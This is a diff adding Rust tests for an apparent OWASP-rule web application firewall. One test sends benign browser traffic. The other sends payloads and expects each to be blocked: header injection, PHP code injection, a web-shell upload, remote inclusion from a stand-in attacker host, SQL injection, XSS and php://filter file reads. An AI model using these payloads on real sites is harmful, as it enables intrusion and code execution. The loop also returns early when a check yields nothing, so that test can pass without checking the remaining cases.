@@ -268,3 +268,73 @@ fn methods_outside_the_crs_default_policy_score() {
         assert!(v.hits.iter().any(|h| h.id == 911100), "{v:?}");
     }
 }
+
+#[test]
+fn passes_browser_like_traffic() {
+    let browser: &[(&str, &str)] = &[
+        ("accept-encoding", "gzip, deflate, br, zstd"),
+        ("referer", "https://www.example.com/search?q=shoes&page=1"),
+        (
+            "sec-ch-ua",
+            "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\"",
+        ),
+        ("sec-ch-ua-platform", "\"Windows\""),
+        ("sec-fetch-mode", "navigate"),
+        ("upgrade-insecure-requests", "1"),
+        (
+            "cookie",
+            "_ga=GA1.2.1234567890.1700000000; __utma=1.2.3.4.5.6; cart=%7B%22items%22%3A3%7D; PHPSESSID=abcdef0123456789",
+        ),
+    ];
+    for target in [
+        "/index.php?page=about-us",
+        "/products/shoes?color=red&size=10.5&brand=Nike%20Air",
+        "/search?q=O%27Brien%27s+pub+%26+grill",
+        "/wp-content/themes/x/style.css?ver=6.4.2",
+        "/calendar?from=2024-01-01T00:00:00Z&to=2024-12-31",
+        "/redirect?url=https%3A%2F%2Fwww.example.com%2Fhome",
+        "/search?q=how+to+select+the+best+union+for+workers",
+    ] {
+        assert_passes(request("GET", target, browser, None));
+    }
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    for body in [
+        &b"comment=I+think+it%27s+great%21+5%2F5+would+buy+again.&rating=5"[..],
+        b"password=P%40ssw0rd%21%23%24&username=john_doe&email=john.doe%2Btag%40gmail.com",
+    ] {
+        assert_passes(request("POST", "/submit", &form, Some(body)));
+    }
+}
+
+#[test]
+fn blocks_more_attack_classes() {
+    let form = ("content-type", "application/x-www-form-urlencoded");
+    let cases: Vec<(&str, &str, Vec<(&str, &str)>, Option<&[u8]>, u32)> = vec![
+        ("GET", "/?a=%0d%0aSet-Cookie:%20x=1", vec![], None, 921160),
+        ("POST", "/x", vec![form], Some(b"code=%3C%3Fphp+system%28%27id%27%29%3B+%3F%3E"), 933100),
+        (
+            "POST",
+            "/up",
+            vec![("content-type", "multipart/form-data; boundary=b")],
+            Some(b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx\r\n--b--\r\n"),
+            933110,
+        ),
+        ("GET", "/?x=http://evil.example/shell.txt?", vec![], None, 931120),
+        ("GET", "/?q=1%20AND%20SLEEP(5)", vec![], None, 942160),
+        ("GET", "/?q=javascript:alert(1)", vec![], None, 941170),
+        ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=index", vec![], None, 933140),
+        ("GET", "/", vec![("content-length", "abc")], None, 920160),
+        ("GET", "/?id=1%00", vec![], None, 920270),
+        ("GET", "/?q=%uff1cscript%uff1e", vec![], None, 920260),
+    ];
+    for (method, target, headers, body, rule) in cases {
+        let Some(v) = check(request(method, target, &headers, body)) else {
+            return;
+        };
+        assert_eq!(v.block, Some(403), "{target}: {v:?}");
+        assert!(
+            v.hits.iter().any(|h| h.id == rule),
+            "{target}: expected {rule}: {v:?}"
+        );
+    }
+}
